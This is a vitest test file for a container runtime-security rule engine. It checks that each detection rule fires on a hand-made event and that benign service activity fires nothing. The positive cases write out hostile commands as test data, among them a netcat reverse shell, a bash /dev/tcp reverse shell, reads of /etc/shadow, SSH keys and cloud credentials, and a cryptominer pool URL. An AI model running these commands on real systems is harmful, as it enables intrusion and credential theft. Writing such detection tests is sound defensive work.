// The built-in pack loads cleanly, documents itself, and each rule fires on its behaviour (hand-made events).
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { RuleEngine, formatDiagnostic } from './index';
import { ev, MemoryContext, CID } from './testkit';
import type { RuntimeEvent } from '../model/event';

const dir = join(__dirname, '../../../assets/rules');
const sources = readdirSync(dir).filter((f) => f.endsWith('.yaml')).map((f) => ({ name: `assets/rules/${f}`, text: readFileSync(join(dir, f), 'utf8') }));
const engine = RuleEngine.fromSources(sources);

const exec = (filename: string, argv: string[], extra: Partial<RuntimeEvent> = {}) => ev({ kind: 'exec', filename, argv, ret: 0, ...extra } as never);
const open = (path: string, flags: number, extra: Partial<RuntimeEvent> = {}) => ev({ kind: 'open', path, flags, mode: 0o644, ret: 3, ...extra } as never);
const W = 0o1 | 0o100; // O_WRONLY|O_CREAT
const connect = (daddr: string, dport: number, extra: Partial<RuntimeEvent> = {}) =>
  ev({ kind: 'connect', family: daddr.includes(':') ? 'inet6' : 'inet', proto: 'tcp', saddr: '172.17.0.2', sport: 40000, daddr, dport, fd: 3, ret: 0, ...extra } as never);
const listen = (sport: number, extra: Partial<RuntimeEvent> = {}) => ev({ kind: 'listen', family: 'inet', proto: 'tcp', saddr: '0.0.0.0', sport, fd: 3, ret: 0, ...extra } as never);
const dns = (qname: string) => ev({ kind: 'dns', qname, qtype: 1, daddr: '127.0.0.11', dport: 53 } as never);

function ctxWith(setup?: (c: MemoryContext) => void): MemoryContext {
  const c = new MemoryContext();
  c.imageFiles.set(CID, new Set(['/bin/sh', '/bin/busybox', '/usr/sbin/nginx', '/bin/bash', '/bin/sleep']));
  setup?.(c);
  return c;
}
/** pid 100's parent (50) is a plain shell started by the entrypoint; with `viaExec` it came from docker exec. */
const viaExec = (c: MemoryContext) => { c.procs.get(50)!.fromExec = true; };
const asProc = (exe: string, argv: string[] = [exe.split('/').pop()!]) => (c: MemoryContext) => { c.addProc({ tgid: 100, ppid: 50, exe, argv, comm: exe.split('/').pop()!.slice(0, 15) }); };
const parent = (exe: string) => (c: MemoryContext) => { c.addProc({ tgid: 50, ppid: 1, exe, argv: [exe.split('/').pop()!], comm: exe.split('/').pop()! }); };

type Case = [RuntimeEvent, ((c: MemoryContext) => void)?];
const POSITIVE: Record<string, Case> = {
  'Terminal shell in container': [exec('/bin/sh', ['sh']), viaExec],
  'Shell spawned by a server process': [exec('/bin/sh', ['sh', '-c', 'id']), parent('/usr/sbin/nginx')],
  'Interpreter runs inline code': [exec('/usr/bin/python3', ['python3', '-c', 'print(1)'])],
  'Non-shell program run with docker exec (Glasshouse)': [exec('/bin/ls', ['ls']), (c) => { c.addProc({ tgid: 50, ppid: 1, exe: '/usr/bin/containerd-shim', argv: ['containerd-shim'], comm: 'containerd-shim' }); c.addProc({ tgid: 100, ppid: 50, exe: '/bin/ls', argv: ['ls'], comm: 'ls', fromExec: true }); }],
  'Container management tool in container': [exec('/usr/local/bin/docker', ['docker', 'ps'])],
  'SSH client or server in container': [exec('/usr/sbin/sshd', ['sshd', '-D'])],
  'Package management process launched in container': [exec('/sbin/apk', ['apk', 'add', 'curl'])],
  'Language package install at runtime': [exec('/usr/bin/pip', ['pip', 'install', 'requests'])],
  'Drop and execute new binary in container': [exec('/usr/local/bin/payload', ['payload'])],
  'Execute binary written after container start (Glasshouse)': [exec('/bin/sh', ['sh']), (c) => c.written.set(CID, new Set(['/bin/sh']))],
  'Execution from a temporary directory': [exec('/tmp/x', ['x'])],
  'Executable bit set on file in container': [ev({ kind: 'chmod', path: '/tmp/x', mode: 0o755, ret: 0 })],
  'Fileless execution via memfd': [exec('/memfd:x', ['x'], { memfd: true } as never)],
  'Anonymous memory file created': [ev({ kind: 'memfd', name: 'x', flags: 0, ret: 3 })],
  'Writable and executable memory mapped': [ev({ kind: 'mprotect', addr: '0x7f', len: 4096, prot: 7, flags: 0, ret: 0 })],
  'Write below etc': [open('/etc/app.conf', W)],
  'Write to account database': [open('/etc/passwd', 0o2001)],
  'User account management tool run': [exec('/usr/sbin/useradd', ['useradd', 'eve'])],
  'Write below binary dir': [open('/usr/bin/ls', W)],
  'Write below library dir': [open('/usr/lib/libc.so.6', W)],
  'Dynamic linker preload modified': [open('/etc/ld.so.preload', W)],
  'Write below root home': [open('/root/tool', W)],
  'Shell configuration file modified': [open('/root/.bashrc', 0o2001)],
  'Schedule cron jobs': [open('/etc/crontabs/root', W), undefined],
  'SSH authorized keys modified': [open('/root/.ssh/authorized_keys', 0o2001)],
  'Create files below dev': [open('/dev/hidden', W)],
  'Hidden file or directory created': [ev({ kind: 'mkdir', path: '/tmp/.x', ret: 0 })],
  'Read sensitive file untrusted': [open('/etc/shadow', 0), asProc('/bin/cat', ['cat', '/etc/shadow'])],
  'Read SSH private key': [open('/root/.ssh/id_rsa', 0), asProc('/bin/cat')],
  'Read cloud or registry credentials': [open('/root/.aws/credentials', 0), asProc('/bin/cat')],
  'Read service account token or container secret': [open('/var/run/secrets/kubernetes.io/serviceaccount/token', 0), asProc('/bin/cat')],
  'Read process environment': [open('/proc/1/environ', 0), asProc('/bin/cat')],
  'Read process memory': [open('/proc/1/mem', 0)],
  'Search for private keys or passwords': [exec('/usr/bin/find', ['find', '/', '-name', 'id_rsa'])],
  'Contact cloud metadata service': [connect('169.254.169.254', 80)],
  'Cloud metadata name resolved (Glasshouse)': [dns('metadata.google.internal')],
  'Netcat remote code execution in container': [exec('/bin/nc', ['nc', '10.0.0.1', '4444', '-e', '/bin/sh'])],
  'Netcat or socat run in container': [exec('/bin/nc', ['nc', 'db', '5432'])],
  'Reverse shell command line': [exec('/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'])],
  'Shell opens network connection': [connect('10.0.0.1', 4444)],
  'Shell or netcat listening': [listen(31337)],
  'Unexpected listening port': [listen(31337), asProc('/usr/bin/python3', ['python3', '-m', 'http.server', '31337'])],
  'Download tool launched in container': [exec('/usr/bin/wget', ['wget', 'http://x/y'])],
  'Remote file copy tool launched': [exec('/usr/bin/scp', ['scp', 'a', 'b:'])],
  'Outbound connection to public address on unusual port': [connect('93.184.216.34', 2222), asProc('/usr/bin/python3')],
  'Outbound connection to IRC or Tor port': [connect('93.184.216.34', 6667), asProc('/usr/bin/python3')],
  'Tunnel or dynamic DNS domain resolved (Glasshouse)': [dns('abc.ngrok.io')],
  'Network reconnaissance tool launched': [exec('/usr/bin/nmap', ['nmap', '10.0.0.0/24'])],
  'Netcat port scan': [exec('/bin/nc', ['nc', '-z', 'db', '1-1000'])],
  'Network configuration discovery': [exec('/bin/ip', ['ip', 'addr'])],
  'Outbound connection to mining pool port': [connect('93.184.216.34', 3333), asProc('/usr/bin/python3')],
  'Crypto miner launched': [exec('/opt/xmrig', ['xmrig'])],
  'Stratum mining protocol in command line': [exec('/opt/app', ['app', '-o', 'stratum+tcp://pool:3333'])],
  'Mining pool domain resolved (Glasshouse)': [dns('pool.supportxmr.com')],
  'Mount syscall in container': [ev({ kind: 'mount', source: '/dev/sda1', path: '/mnt', fstype: 'ext4', flags: 0, ret: -1 })],
  'Write to cgroup release_agent': [open('/sys/fs/cgroup/x/release_agent', 1, { ret: -13 } as never)],
  'Write to cgroup filesystem': [open('/sys/fs/cgroup/memory.max', 1)],
  'Write to kernel parameters': [open('/proc/sys/kernel/core_pattern', 1)],
  'Change namespace with setns or nsenter': [exec('/bin/nsenter', ['nsenter', '-t', '1', '-m'])],
  'New namespaces created with unshare': [ev({ kind: 'unshare', flags: 0x10000000, ret: 0 })],
  'Access host filesystem through proc root': [open('/proc/1/root/etc/passwd', 0)],
  'Container runtime socket accessed': [ev({ kind: 'connect', family: 'unix', proto: 'unix', unixPath: '/var/run/docker.sock', fd: 3, ret: 0 })],
  'Kernel module loaded from container': [ev({ kind: 'module', name: 'evil', ret: -1 })],
  'Debugfs launched in container': [exec('/sbin/debugfs', ['debugfs', '/dev/sda1'])],
  'BPF program loaded from container': [ev({ kind: 'bpf', cmd: 5, ret: 3 })],
  'Chroot in container': [ev({ kind: 'chroot', path: '/mnt', ret: 0 })],
  'Set setuid or setgid bit': [ev({ kind: 'chmod', path: '/tmp/sh', mode: 0o4755, ret: 0 })],
  // As the sensor reports it: uid already 0 when setuid(0) returns; the program was started by uid 1000.
  'Non-root process became root': [ev({ kind: 'setuid', syscall: 'setuid', target: [0], ret: 0, uid: 0 }), (c) => { c.procs.get(100)!.uid = 1000; }],
  'Capabilities changed at runtime': [ev({ kind: 'capset', effective: '0x3fffffffff', permitted: '0x3fffffffff', ret: 0 }), asProc('/tmp/exploit')],
  'Sudo or su run in container': [exec('/bin/su', ['su', 'root'])],
  'Pkexec run in container': [exec('/usr/bin/pkexec', ['pkexec', 'sh'])],
  'Process attached with ptrace': [ev({ kind: 'ptrace', request: 16, targetPid: 1, ret: 0 })],
  'io_uring ring created in container': [ev({ kind: 'io_uring', entries: 4, flags: 0, ret: 3 })],
  'Debugger or tracer run in container': [exec('/usr/bin/strace', ['strace', '-p', '1'])],
  'Clear log activities': [open('/var/log/auth.log', 0o1001)],
  'Delete or truncate shell history': [ev({ kind: 'unlink', path: '/root/.ash_history', ret: 0 })],
  'Secure file deletion tool run': [exec('/usr/bin/shred', ['shred', '-u', 'x'])],
  'Firewall rules modified': [exec('/sbin/iptables', ['iptables', '-F'])],
  'Program renamed to look like a system process': [exec('/tmp/kworker', ['kworker'])],
};

/** Everyday behaviour of a service container: none of it may fire. */
const BENIGN: Case[] = [
  [exec('/usr/sbin/nginx', ['nginx', '-g', 'daemon off;']), parent('/usr/bin/containerd-shim')],
  [exec('/bin/sh', ['sh', '-c', 'sleep 1']), parent('/usr/bin/tini')],
  [exec('/bin/sleep', ['sleep', '1'])],
  // the nginx image's entrypoint renders its conf.d templates (the script's own redirection writes the file)
  [open('/etc/nginx/conf.d/default.conf', W), asProc('/docker-entrypoint.sh', ['/docker-entrypoint.sh', 'nginx'])],
  // PostgreSQL's bootstrap backend (initdb on a first start) lists the system's locales through a shell
  [exec('/bin/sh', ['sh', '-c', 'locale -a']), parent('/usr/lib/postgresql/15/bin/postgres')],
  [open('/var/log/nginx/access.log', 0o2001)],
  [open('/tmp/upload-123', W), asProc('/usr/sbin/nginx')],
  [open('/etc/hosts', 0)],
  [open('/etc/resolv.conf', W)],
  [connect('10.0.0.5', 5432), asProc('/usr/bin/python3')],
  [connect('93.184.216.34', 443), asProc('/usr/bin/python3')],
  [ev({ kind: 'connect', family: 'inet', proto: 'udp', saddr: '172.17.0.2', sport: 5353, daddr: '127.0.0.11', dport: 53, fd: 3, ret: 0 }), asProc('/usr/bin/python3')],
  [listen(8080), asProc('/usr/bin/python3')],
  [dns('api.github.com')],
  [ev({ kind: 'chmod', path: '/var/www/index.html', mode: 0o644, ret: 0 })],
  [ev({ kind: 'mprotect', addr: '0x7f', len: 4096, prot: 5, flags: 0, ret: 0 })],
  [ev({ kind: 'mprotect', addr: '0x7f', len: 4096, prot: 7, flags: 0, ret: 0 }), asProc('/usr/bin/node')],
  [ev({ kind: 'setuid', syscall: 'setuid', target: [101], ret: 0, uid: 0 })],
  [ev({ kind: 'fork', childPid: 101, childTgid: 101, thread: false })],
  [ev({ kind: 'exit', code: 0, signal: 0, thread: false })],
  [ev({ kind: 'unlink', path: '/tmp/upload-123', ret: 0 })],
  [open('/etc/shadow', 0, { containerId: undefined } as never), asProc('/usr/sbin/sshd')],
  [exec('/usr/local/bin/app', ['app']), (c) => c.imageFiles.get(CID)!.add('/usr/local/bin/app')],
];

describe('built-in pack', () => {
  it('loads without errors or warnings and has at least 60 rules', () => {
    expect(engine.diagnostics.map(formatDiagnostic)).toEqual([]);
    expect(engine.rules.length).toBeGreaterThanOrEqual(60);
    expect(engine.rules.every((r) => r.enabled)).toBe(true);
  });

  it('gives every rule a severity, MITRE technique and tactic, a one-line why and a fix', () => {
    for (const r of engine.rules) {
      expect(r.mitre.length, r.name).toBeGreaterThan(0);
      expect(r.tags.some((t) => t.startsWith('mitre_')), r.name).toBe(true);
      expect(r.why.length, r.name).toBeGreaterThan(20);
      expect(r.fix.length, r.name).toBeGreaterThan(20);
      expect(r.why.includes('\n'), r.name).toBe(false);
    }
  });

  it('has a hand-made positive case for every rule', () => {
    expect(Object.keys(POSITIVE).sort()).toEqual(engine.rules.map((r) => r.name).sort());
  });

  it.each(Object.entries(POSITIVE))('%s fires on its behaviour', (name, [e, setup]) => {
    const c = ctxWith(setup);
    expect(engine.matches(e, c).map((m) => m.rule.name)).toContain(name);
  });

  it('keeps firing on any other shell command under postgres than its own locale listing', () => {
    for (const argv of [['sh', '-c', 'id'], ['sh', '-c', 'locale -a; id'], ['sh']]) {
      const c = ctxWith(parent('/usr/lib/postgresql/15/bin/postgres'));
      expect(engine.matches(exec('/bin/sh', argv), c).map((m) => m.rule.name), argv.join(' ')).toContain('Shell spawned by a server process');
    }
  });

  it('keeps firing on other writes below /etc than the nginx entrypoint rendering conf.d', () => {
    const cases: Case[] = [
      [open('/etc/nginx/conf.d/evil.conf', W), asProc('/bin/sh', ['sh'])],
      [open('/etc/nginx/nginx.conf', W), asProc('/docker-entrypoint.sh', ['/docker-entrypoint.sh', 'nginx'])],
      [open('/etc/app.conf', W), asProc('/docker-entrypoint.sh', ['/docker-entrypoint.sh'])],
    ];
    for (const [e, setup] of cases) expect(engine.matches(e, ctxWith(setup)).map((m) => m.rule.name), String((e as { path?: string }).path)).toContain('Write below etc');
  });

  it.each(BENIGN.map((b, i) => [i, b] as const))('benign behaviour %i fires nothing', (_i, [e, setup]) => {
    const c = ctxWith(setup);
    expect(engine.matches(e, c).map((m) => m.rule.name)).toEqual([]);
  });
});
